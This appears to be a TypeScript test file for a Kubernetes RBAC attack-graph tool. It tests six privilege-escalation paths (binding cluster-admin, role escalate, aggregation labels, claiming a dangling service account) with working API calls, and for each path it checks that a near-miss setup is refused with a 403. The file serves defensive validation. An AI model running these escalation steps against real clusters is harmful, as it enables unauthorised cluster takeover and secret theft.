/** Handing out rights that one does not have. */
import type { PlainObject } from '../../../../src/graph/family.ts';
import { allowEverywhereTo, allowTo, binding, clusterRole, namespace } from '../../../../src/graph/example-objects.ts';
import { type Attack, tokenIn } from '../attack.ts';
import { strongIn } from '../objects.ts';
import { type TriedFamily, way } from '../way.ts';

const API = '/apis/rbac.authorization.k8s.io/v1';
const GROUP = 'rbac.authorization.k8s.io';
const EVERYTHING = [{ verbs: ['*'], apiGroups: ['*'], resources: ['*'] }];

export const family: TriedFamily = {
  ways: [
    way({
      edge: 'BIND_CLUSTER',
      to: () => 'ClusterAdmin',
      world: ({ x }) => allowEverywhereTo(x, 'create clusterrolebindings', 'bind clusterroles:cluster-admin'),
      take: bindCluster,
      nearest: {
        because: 'only a role that reads may be bound',
        world: ({ x }) => allowEverywhereTo(x, 'create clusterrolebindings', 'bind clusterroles:view'),
        refusal: /403.*not currently held/s,
      },
    }),
    way({
      edge: 'BIND_NAMESPACE',
      to: ({ ns }) => `NamespaceAdmin/${ns}`,
      world: ({ ns, x }) => allowTo(x, ns, 'create rolebindings', 'bind clusterroles'),
      take: bindHere,
      nearest: {
        because: 'bind is asked of the role, not of the binding',
        world: ({ ns, x }) => allowTo(x, ns, 'create rolebindings', 'bind rolebindings'),
        refusal: /403.*not currently held/s,
      },
    }),
    way({
      edge: 'ROLE_ESCALATE',
      to: ({ ns }) => `NamespaceAdmin/${ns}`,
      world: ({ ns, x }) => writer(ns, x, ['patch roles', 'escalate roles']),
      take: escalate,
      nearest: {
        because: 'without escalate one writes only rules that one has',
        world: ({ ns, x }) => writer(ns, x, ['patch roles']),
        refusal: /403.*not currently held/s,
      },
    }),
    way({
      edge: 'ROLE_CREATE_ESCALATE',
      to: ({ ns }) => `NamespaceAdmin/${ns}`,
      world: ({ ns, x }) => allowTo(x, ns, 'create roles', 'escalate roles', 'create rolebindings', 'bind roles'),
      take: createAndBind,
      nearest: {
        because: 'a role that nobody may bind grants nothing',
        world: ({ ns, x }) => allowTo(x, ns, 'create roles', 'escalate roles', 'create rolebindings'),
        refusal: /403.*not currently held/s,
      },
    }),
    way({
      edge: 'AGGREGATION_LABEL',
      to: () => 'ClusterAdmin',
      world: ({ ns, x }) => [...aggregated(ns, x), ...allowEverywhereTo(x, 'create clusterroles', 'escalate clusterroles')],
      take: aggregate,
      nearest: {
        because: 'without escalate one adds only rules that one has',
        world: ({ ns, x }) => [...aggregated(ns, x), ...allowEverywhereTo(x, 'create clusterroles')],
        refusal: /403.*not currently held/s,
      },
    }),
    way({
      edge: 'DANGLING_SUBJECT_CLAIM',
      to: () => 'ClusterAdmin',
      world: ({ other, x }) => [...ghost(other), ...allowTo(x, other, 'create serviceaccounts', 'create serviceaccounts/token')],
      take: claim,
      nearest: {
        because: 'there is no such account to have a token of',
        world: ({ other, x }) => [...ghost(other), ...allowTo(x, other, 'create serviceaccounts/token')],
        refusal: /403/,
      },
    }),
  ],
};

/** `x` is bound to a role that it may write. */
function writer(ns: string, x: string, rights: readonly string[]): PlainObject[] {
  return allowTo(x, ns, ...rights).map((object) => ({ ...object, metadata: { namespace: ns, name: 'own' }, ...renamed(object) }));
}

function renamed({ roleRef }: PlainObject): PlainObject {
  return roleRef === undefined ? {} : { roleRef: { ...(roleRef as PlainObject), name: 'own' } };
}

function aggregated(ns: string, x: string): PlainObject[] {
  const selector = { matchLabels: { [`wide-${ns}`]: 'yes' } };
  return [
    { ...clusterRole(`wide-${ns}`), aggregationRule: { clusterRoleSelectors: [selector] } },
    binding('ClusterRoleBinding', { name: `wide-${ns}` }, { role: { kind: 'ClusterRole', name: `wide-${ns}` }, who: x }),
  ];
}

/** A namespace in which a strong account is bound that was never made. */
function ghost(other: string): PlainObject[] {
  return [namespace(other), ...strongIn(other).filter(({ kind }) => kind !== 'ServiceAccount')];
}

function bindingTo(attack: Attack, kind: 'RoleBinding' | 'ClusterRoleBinding', role: { kind: string; name: string }): PlainObject {
  const metadata = kind === 'RoleBinding' ? { namespace: attack.ns, name: 'mine' } : { name: `mine-${attack.ns}` };
  return binding(kind, metadata as Record<string, string>, { role, who: attack.place.x });
}

async function bindCluster(attack: Attack): Promise<void> {
  await attack.post(`${API}/clusterrolebindings`, bindingTo(attack, 'ClusterRoleBinding', { kind: 'ClusterRole', name: 'cluster-admin' }));
  await attack.controlsCluster();
}

async function bindHere(attack: Attack): Promise<void> {
  const role = { kind: 'ClusterRole', name: 'cluster-admin' };
  await attack.post(`${API}/namespaces/${attack.ns}/rolebindings`, bindingTo(attack, 'RoleBinding', role));
  await ownsNamespace(attack);
}

async function ownsNamespace(attack: Attack): Promise<void> {
  await attack.eventually(() => attack.get(`/api/v1/namespaces/${attack.ns}/secrets`));
  await attack.eventually(() => attack.ask('DELETE', `/api/v1/namespaces/${attack.ns}/pods?dryRun=All`));
}

async function escalate(attack: Attack): Promise<void> {
  await attack.patch(`${API}/namespaces/${attack.ns}/roles/own`, { rules: EVERYTHING });
  await ownsNamespace(attack);
}

async function createAndBind(attack: Attack): Promise<void> {
  const home = `${API}/namespaces/${attack.ns}`;
  const metadata = { namespace: attack.ns, name: 'all' };
  await attack.post(`${home}/roles`, { apiVersion: `${GROUP}/v1`, kind: 'Role', metadata, rules: EVERYTHING });
  // The check of a binding reads roles from a cache.
  await attack.eventually(() => attack.post(`${home}/rolebindings`, bindingTo(attack, 'RoleBinding', { kind: 'Role', name: 'all' })));
  await ownsNamespace(attack);
}

async function aggregate(attack: Attack): Promise<void> {
  const metadata = { name: `part-${attack.ns}`, labels: { [`wide-${attack.ns}`]: 'yes' } };
  await attack.post(`${API}/clusterroles`, { apiVersion: `${GROUP}/v1`, kind: 'ClusterRole', metadata, rules: EVERYTHING });
  await attack.controlsCluster();
}

async function claim(attack: Attack): Promise<void> {
  const path = `/api/v1/namespaces/${attack.place.other}/serviceaccounts`;
  await attack.post(path, { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'strong' } });
  const body = { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} };
  await attack.controlsCluster({ token: tokenIn(await attack.post(`${path}/strong/token`, body)) });
}
